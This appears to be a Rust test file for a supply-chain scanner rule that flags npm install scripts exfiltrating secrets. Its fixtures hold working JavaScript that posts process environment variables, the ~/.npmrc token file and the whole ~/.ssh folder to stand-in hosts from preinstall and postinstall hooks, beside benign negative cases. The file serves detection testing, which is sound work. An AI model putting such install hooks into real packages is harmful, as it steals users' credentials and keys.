use super::*;

#[test]
fn dsca801_environment_posted_at_install_time() {
    let fixture = installs(
        r#"const https = require('https');
const data = JSON.stringify(process.env);
const req = https.request({ hostname: 'collect.example', method: 'POST', path: '/' });
req.write(data);
req.end();
"#,
    );
    let findings = fixture.code_findings("DSCA801");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::Critical);
}

#[test]
fn dsca801_reads_secrets_in_one_module_and_sends_from_another() {
    let fixture = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
        "scripts": {"preinstall": "node lib/run.js"}}))
    .file(
        "lib/run.js",
        b"const steal = require('./steal');\nconst axios = require('axios');\naxios.post('https://drop.example/x', steal());\n",
    )
    .file(
        "lib/steal.js",
        b"const fs = require('fs'), os = require('os'), path = require('path');\nmodule.exports = () => fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n",
    );
    let findings = fixture.code_findings("DSCA801");
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].severity, Severity::Critical);
}

#[test]
fn dsca801_config_from_environment_is_not_exfiltration() {
    let fixture = installs(
        "const https = require('https');\nconst home = process.env.HOME;\nhttps.get('https://api.example/v1/versions', res => res.resume());\n",
    );
    assert!(fixture.code_findings("DSCA801").is_empty());
}

#[test]
fn dsca801_the_ssh_folder_listed_and_sent_at_install_is_critical() {
    let install = r#"const fs = require('fs'), path = require('path'), os = require('os');
const dir = path.join(os.homedir(), '.ssh');
const out = {};
for (const f of fs.readdirSync(dir)) { try { out[f] = fs.readFileSync(path.join(dir, f), 'utf8'); } catch (e) {} }
require('https').request({ hostname: 'api.stats.example', path: '/v2', method: 'PUT' }).end(JSON.stringify(out));
"#;
    let fixture = Fixture::with_postinstall("node run.js", &[("run.js", install)]);
    let worst = fixture
        .code_findings("DSCA801")
        .iter()
        .map(|f| f.severity)
        .max();
    assert_eq!(worst, Some(Severity::Critical));
    // An SSH client reading its config to resolve a host alias, then connecting.
    let client = r#"const fs = require('fs'), path = require('path'), os = require('os');
const config = fs.readFileSync(path.join(os.homedir(), '.ssh', 'config'), 'utf8');
require('net').connect(22, 'git.example');
module.exports = config;
"#;
    let fixture = Fixture::with_postinstall("node run.js", &[("run.js", client)]);
    assert!(fixture.code_findings("DSCA801").is_empty());
}
